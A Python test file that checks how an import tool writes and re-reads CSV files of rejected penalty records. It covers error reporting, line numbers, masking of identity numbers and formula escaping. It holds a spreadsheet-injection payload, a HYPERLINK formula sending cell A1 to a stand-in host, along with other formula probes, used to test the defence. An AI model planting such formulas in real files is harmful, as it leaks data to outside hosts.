"""Promises: a rejected row says everything that is wrong with it, can be mended in Excel and imported again, keeps the
line of its first file, runs nothing in a spreadsheet, and shows nobody's identity number."""

from __future__ import annotations

import csv
from pathlib import Path

import asyncpg
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.errors import ImportFileError
from gateway.storage.database import Database
from gateway.storage.imports import rejects as module
from gateway.storage.imports.rejects import plain_cell, rejects_for, safe_cell
from tests.storage.imports.rows_of_a_clerk import IDENTITY, code, counts, csv_bytes, load, penalty, written

FORMULA = '=HYPERLINK("http://example.test/?"&A1,"x")'


def lines(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


async def test_all_that_is_wrong_with_a_row_and_not_only_the_first(database: Database, tmp_path: Path) -> None:
    row = penalty(
        1, CF_JDRQ="昨天", CF_CFLB="口头教育", CF_XDR_SHXYM=IDENTITY, CF_WSH="/", 来源代码="NOWHERE", 目录项="XX-1"
    )
    report = await load(database, written(tmp_path / "a.csv", [row]))
    assert report.rejects_path is not None
    [reject] = lines(report.rejects_path)
    headings = reject["column"].split(" | ")
    assert set(headings) == {"CF_JDRQ", "CF_CFLB", "CF_XDR_SHXYM", "CF_WSH", "来源代码", "目录项"}
    assert len(headings) == 6
    for told in ("value", "reason_zh", "reason_en"):
        assert len(reject[told].split(" | ")) == 6
    by_heading = dict(zip(headings, reject["reason_en"].split(" | "), strict=True))
    assert by_heading["CF_WSH"] == "is required and empty"
    assert by_heading["来源代码"] == "no such source"
    assert by_heading["目录项"] == "no such item in a catalogue in force"
    assert reject["line"] == "2"


async def test_faults_that_cells_do_not_show_are_all_told_too(database: Database, tmp_path: Path) -> None:
    row = penalty(2, CF_JDRQ="2026-06-30", 来源代码="NOWHERE", 状态="已撤销", CF_CFJG="", CF_CFJGDM="")
    report = await load(database, written(tmp_path / "a.csv", [row]))
    [(_, heading, _, _, en)] = report.first_rejects
    assert heading.split(" | ") == ["CF_JDRQ", "来源代码", "CF_CFJG"]
    assert en.split(" | ") == [
        "decided after it was received",
        "no such source",
        "a revoked record needs its authority",
    ]


async def test_mended_rejects_keep_the_lines_of_the_first_file(
    database: Database, owner: asyncpg.Connection[asyncpg.Record], tmp_path: Path
) -> None:
    rows = [penalty(n, CF_JDRQ="昨天" if n % 2 else "2026-03-15") for n in range(20, 30)]
    first = written(tmp_path / "rows.csv", rows)
    report = await load(database, first)
    assert counts(report) == (10, 5, 0, 0, 5)
    rejects = tmp_path / "rows.rejects.csv"
    assert rejects.read_bytes().startswith(b"\xef\xbb\xbf")  # so that Excel reads it as UTF-8
    assert [reject["line"] for reject in lines(rejects)] == ["3", "5", "7", "9", "11"]
    half = rejects.read_text(encoding="utf-8-sig").replace("昨天", "2026-03-15", 3 * 2)  # value and cell
    rejects.write_text(half, encoding="utf-8")
    before = rejects.read_bytes()
    report = await load(database, rejects)
    assert counts(report) == (5, 3, 0, 0, 2)
    assert rejects.read_bytes() == before  # what was mended is not overwritten
    assert report.rejects_path == tmp_path / "rows.rejects-2.csv"
    assert [reject["line"] for reject in lines(report.rejects_path)] == ["9", "11"]
    report.rejects_path.write_text(
        report.rejects_path.read_text(encoding="utf-8-sig").replace("昨天", "2026/3/15"), encoding="gb18030"
    )
    last = await load(database, report.rejects_path)
    assert counts(last) == (2, 2, 0, 0, 0)
    assert not (tmp_path / "rows.rejects-3.csv").exists()
    original = await owner.fetchval(
        "select original from core.record_version v join core.record r on r.id = v.record_id"
        " where r.document_number = '样例〔2026〕29号'"
    )
    assert "line" not in original  # the row as received has its own headings alone
    assert "reason" not in original


async def test_columns_that_the_file_lacks_can_be_filled_in(database: Database, tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes(csv_bytes([penalty(95)]))
    await load(database, tmp_path / "a.csv")
    rows = [penalty(95, CF_ZT="1"), penalty(96, CF_ZT="", CF_JDRQ="昨天", CF_CFLB=""), penalty(97, CF_ZT="")]
    content = csv_bytes(rows[:2]).decode() + csv_bytes([rows[2]]).decode().splitlines()[1] + ",too,many\r\n"
    (tmp_path / "l.csv").write_text(content, encoding="utf-8", newline="")
    report = await load(database, tmp_path / "l.csv")
    assert report.rejects_path is not None
    told = [(heading, value) for _, heading, value, _, _ in report.first_rejects]
    assert told == [("变更原因", ""), ("CF_JDRQ | CF_CFLB", "昨天 | —"), ("", "")]
    with report.rejects_path.open(encoding="utf-8-sig", newline="") as file:
        header, first, second, third = csv.reader(file)
    assert header[5:7] == ["变更原因", "CF_XDR_MC"]
    assert (first[5], second[5], third[5], third[-2:]) == ("", "", "", ["too", "many"])
    first[5] = "样例：经复议撤销"
    second[header.index("CF_JDRQ")], second[header.index("CF_CFLB")] = "2026-03-15", "警告"
    with report.rejects_path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([header, first, second, third[:-2]])
    assert counts(await load(database, report.rejects_path)) == (3, 2, 1, 0, 0)


async def test_rejects_that_are_no_longer_true_are_taken_away(database: Database, tmp_path: Path) -> None:
    path = written(tmp_path / "r.csv", [penalty(40, CF_JDRQ="昨天")])
    assert (await load(database, path)).rejected == 1
    assert (tmp_path / "r.rejects.csv").exists()
    written(path, [penalty(40)])
    assert (await load(database, path, dry_run=True)).rejected == 0
    assert (tmp_path / "r.rejects.csv").exists()  # a dry run takes nothing away
    assert (await load(database, path)).rejected == 0
    assert not (tmp_path / "r.rejects.csv").exists()


async def test_the_first_file_again_does_not_undo_the_mending(database: Database, tmp_path: Path) -> None:
    path = written(tmp_path / "m.csv", [penalty(45, CF_JDRQ="昨天")])
    await load(database, path)
    rejects = tmp_path / "m.rejects.csv"
    mended = rejects.read_bytes().replace("昨天".encode(), b"2026-03-15")
    rejects.write_bytes(mended)
    for _ in range(2):  # the second time nothing differs: what was kept stays
        await load(database, path)
        assert (tmp_path / "m.rejects.csv.bak").read_bytes() == mended


async def test_no_other_file_is_replaced_or_taken_away(database: Database, tmp_path: Path) -> None:
    kept = tmp_path / "k.rejects.csv"
    kept.write_text("minutes of a meeting")
    with pytest.raises(ImportFileError, match="holds no rejects"):
        await load(database, written(tmp_path / "k.csv", [penalty(41)]))
    assert kept.read_text() == "minutes of a meeting"
    with pytest.raises(ImportFileError, match="would replace"):
        rejects_for(tmp_path / "k.csv", tmp_path / "x" / ".." / "k.csv")
    with pytest.raises(ImportFileError, match="no folder"):
        rejects_for(tmp_path / "k.csv", tmp_path / "nowhere" / "r.csv")


@pytest.mark.parametrize(
    ("name", "wanted"),
    [
        ("a.csv", "a.rejects.csv"),
        ("a.xlsx", "a.xlsx.rejects.csv"),
        ("a.xlsx.rejects.csv", "a.xlsx.rejects-2.csv"),
        ("a.rejects.csv", "a.rejects-2.csv"),
        ("a.rejects-2.csv", "a.rejects-3.csv"),
        ("a.rejects-9.csv", "a.rejects-10.csv"),
        ("a.rejects-x.csv", "a.rejects-x.rejects.csv"),
    ],
)
def test_names_of_rejects(name: str, wanted: str, tmp_path: Path) -> None:
    assert rejects_for(tmp_path / name, None) == tmp_path / wanted


@given(
    st.text(max_size=30) | st.sampled_from(["=1+1", "'=1", "''", " =1", "-5", "@x", "+86", "\t=1", "＝1", "'", "|x"])
)
def test_a_cell_comes_back_as_it_was_and_runs_nowhere(text: str) -> None:
    safe = safe_cell(text)
    assert plain_cell(safe) == text
    assert safe.lstrip(" \u3000\xa0")[:1] not in set("=+-@＝＋－＠\t\r\n")


async def test_formulas_do_not_run_and_come_in_as_they_were(
    database: Database, owner: asyncpg.Connection[asyncpg.Record], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    row = penalty(50, CF_SY=FORMULA, CF_WFXW="-1", CF_JDRQ="昨天", **{"=HEADING": "+1"})
    path = written(tmp_path / "f.csv", [row])
    report = await load(database, path)
    assert report.rejects_path is not None
    with report.rejects_path.open(encoding="utf-8-sig", newline="") as file:
        raw = [cell for line in csv.reader(file) for cell in line]
    assert f"'{FORMULA}" in raw
    assert not [cell for cell in raw if cell[:1] in set("=+-@")]
    text = report.rejects_path.read_text(encoding="utf-8-sig").replace("昨天", "2026-03-15")
    report.rejects_path.write_text(text, encoding="utf-8-sig")
    assert counts(await load(database, report.rejects_path)) == (1, 1, 0, 0, 0)
    found = await owner.fetchrow(
        "select r.facts, r.title, v.original from core.record r join core.record_version v on v.record_id = r.id"
        " where r.document_number = '样例〔2026〕50号'"
    )
    assert found is not None
    assert (found["facts"], found["title"]) == (FORMULA, "-1")
    assert '"未采用的列":"=HEADING"' in found["original"]
    assert "+1" not in found["original"]  # of a column that means nothing here, its name alone
    with monkeypatch.context() as patch:  # without the control
        patch.setattr(module, "safe_cell", lambda cell: cell)
        await load(database, written(tmp_path / "g.csv", [row]))
    with (tmp_path / "g.rejects.csv").open(encoding="utf-8-sig", newline="") as file:
        assert FORMULA in [cell for line in csv.reader(file) for cell in line]


async def test_nobodys_identity_number_stands_in_the_rejects(database: Database, tmp_path: Path) -> None:
    hidden = [IDENTITY, IDENTITY.lower(), f"{IDENTITY[:6]} {IDENTITY[6:14]} {IDENTITY[14:]}"]
    rows = [
        penalty(
            60, CF_XDR_LB="自然人", CF_XDR_SHXYM="", CF_XDR_ZJHM=number, CF_JDRQ="昨天", CF_SY=number, CF_CFJG=number
        )
        for number in hidden
    ]
    rows += [penalty(61, CF_XDR_SHXYM=IDENTITY), penalty(62, CF_JDRQ=IDENTITY), penalty(63, CF_CFLB=IDENTITY)]
    rows += [penalty(64, CF_XDR_MC=IDENTITY, CF_JDRQ="昨天"), penalty(65, CF_JDRQ="昨天", BZ=IDENTITY, 未知列=IDENTITY)]
    report = await load(database, written(tmp_path / "i.csv", rows))
    assert report.rejected == len(rows)
    assert report.rejects_path is not None
    text = report.rejects_path.read_text(encoding="utf-8-sig") + repr(report)
    assert IDENTITY[4:14] not in text.replace(" ", "")
    assert "6527" in text  # masked, not gone


async def test_the_same_row_copied_within_rejects_is_one(database: Database, tmp_path: Path) -> None:
    """Two rows of one line: a clerk copies a row to mend it."""
    header = "line,column,value,reason_zh,reason_en," + ",".join(penalty(70))
    row = "7,,,,," + ",".join(penalty(70).values())
    path = tmp_path / "c.csv"
    path.write_text(f"{header}\n{row}\n{row}\n", encoding="utf-8")
    assert counts(await load(database, path)) == (2, 1, 0, 1, 0)


async def test_rows_of_the_wrong_width_can_be_mended_too(database: Database, tmp_path: Path) -> None:
    content = csv_bytes([penalty(80)]).decode().rstrip() + ",one,more\r\n"
    (tmp_path / "w.csv").write_text(content, encoding="utf-8")
    report = await load(database, tmp_path / "w.csv")
    assert report.rejects_path is not None
    text = report.rejects_path.read_text(encoding="utf-8-sig")
    assert "12 格" in text
    report.rejects_path.write_text(text.replace(",one,more", ""), encoding="utf-8")
    assert counts(await load(database, report.rejects_path)) == (1, 1, 0, 0, 0)


def test_no_code_of_these_tests_is_anybodys() -> None:
    assert code("91", 1)[2:10] == "652799YL"
